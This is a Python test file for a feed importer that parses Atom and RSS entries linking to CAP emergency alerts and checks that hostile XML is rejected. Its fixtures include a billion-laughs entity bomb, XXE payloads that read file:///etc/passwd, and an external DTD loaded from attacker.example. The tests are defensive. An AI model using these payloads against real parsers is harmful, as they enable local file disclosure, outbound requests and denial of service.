"""Import of outside feeds: Atom / RSS entries with CAP links; hostile XML rejected."""

from __future__ import annotations

import pytest

from cityops.cap import build_alert_xml, parse_cap, parse_feed
from cityops.errors import InvalidInput, TooLarge
from cityops.safexml import parse_untrusted

from .conftest import sample_alert

ATOM = b"""<?xml version="1.0" encoding="UTF-8"?>
<feed xmlns="http://www.w3.org/2005/Atom">
  <id>urn:example:nmhs</id><title>NMHS warnings</title><updated>2025-09-14T07:00:00Z</updated>
  <entry>
    <id>urn:oid:2.49.0.1.764.0.2025.9.14.0.0.0</id>
    <title>Heavy rain warning</title>
    <updated>2025-09-14T07:00:00+07:00</updated>
    <link rel="alternate" type="text/html" href="/warnings/1.html"/>
    <link rel="alternate" type="application/cap+xml" href="/cap/1.xml"/>
  </entry>
  <entry>
    <id>second</id><title>Untyped</title><updated>2025-09-13T07:00:00+07:00</updated>
    <link href="https://other.example/cap/2.xml"/>
  </entry>
</feed>"""

RSS = b"""<?xml version="1.0"?>
<rss version="2.0"><channel><title>TMD</title><link>https://tmd.example/</link>
<description>CAP</description>
<item><title>Storm</title><link>https://tmd.example/cap/9.xml</link>
<guid>tmd-9</guid><pubDate>Sun, 14 Sep 2025 07:00:00 +0700</pubDate></item>
<item><title>Flood</title><link>https://tmd.example/page/8</link>
<enclosure url="https://tmd.example/cap/8.xml" type="application/cap+xml" length="0"/>
<pubDate>Sat, 13 Sep 2025 07:00:00 +0700</pubDate></item>
</channel></rss>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<rss version="2.0"><channel><title>&lol4;</title></channel></rss>"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE feed [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<feed xmlns="http://www.w3.org/2005/Atom"><title>&xxe;</title></feed>"""

XXE_NETWORK = b"""<?xml version="1.0"?>
<!DOCTYPE rss SYSTEM "http://attacker.example/evil.dtd">
<rss version="2.0"><channel><title>x</title></channel></rss>"""


def test_atom_entries_with_cap_links() -> None:
    first, second = parse_feed(ATOM, base_url="https://nmhs.example/feed.atom")
    assert first.cap_url == "https://nmhs.example/cap/1.xml"
    assert first.link_type == "application/cap+xml" and first.title == "Heavy rain warning"
    assert first.updated is not None and first.updated.utcoffset().total_seconds() == 7 * 3600
    assert second.cap_url == "https://other.example/cap/2.xml"


def test_rss_items_with_cap_links() -> None:
    storm, flood = parse_feed(RSS)
    assert storm.cap_url == "https://tmd.example/cap/9.xml" and storm.id == "tmd-9"
    assert flood.cap_url == "https://tmd.example/cap/8.xml"
    assert storm.updated is not None and storm.updated > flood.updated


# The line is that of the first hostile declaration (cityops.safexml): the first entity of
# the bomb, the external entity, the external DTD.
@pytest.mark.parametrize(("payload", "line"), [(BILLION_LAUGHS, 3), (XXE, 2), (XXE_NETWORK, 2)])
def test_dtd_and_entities_rejected(payload: bytes, line: int) -> None:
    with pytest.raises(InvalidInput) as err:
        parse_feed(payload)
    assert err.value.field == "feed"
    assert err.value.message.startswith(f"line {line}:")
    assert "DTD" in err.value.message


def test_entities_rejected_in_cap_too() -> None:
    xml = build_alert_xml(sample_alert(("en",)))
    evil = xml.replace(
        b"?>\n", b'?>\n<!DOCTYPE alert [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n', 1
    )
    with pytest.raises(InvalidInput) as err:
        parse_cap(evil)
    assert err.value.field == "cap"


def test_malformed_feed_names_line() -> None:
    with pytest.raises(InvalidInput) as err:
        parse_feed(b"<rss version='2.0'>\n<channel>\n<title>x</channel></rss>")
    assert err.value.message.startswith("line 3:")
    assert "mismatch" in err.value.message


def test_not_a_feed_and_not_bytes() -> None:
    with pytest.raises(InvalidInput) as err:
        parse_feed(b"<html><body/></html>")
    assert "neither" in err.value.message
    with pytest.raises(InvalidInput):
        parse_untrusted("<rss/>")  # type: ignore[arg-type]


def test_size_limit() -> None:
    with pytest.raises(TooLarge):  # 413, as for any document over its limit
        parse_untrusted(b"<a>" + b"x" * 100 + b"</a>", max_bytes=50)


def test_html_doctype_inside_cdata_is_fine() -> None:
    rss = (
        b"<rss version='2.0'><channel><title>t</title><item><title>a</title>"
        b"<description><![CDATA[<!DOCTYPE html><p>x</p>]]></description>"
        b"<link>https://x.example/a.xml</link></item></channel></rss>"
    )
    (entry,) = parse_feed(rss)
    assert entry.summary.startswith("<!DOCTYPE html>")


def test_parse_cap_document() -> None:
    alert = sample_alert(("en", "ms"))
    assert parse_cap(build_alert_xml(alert)) == alert
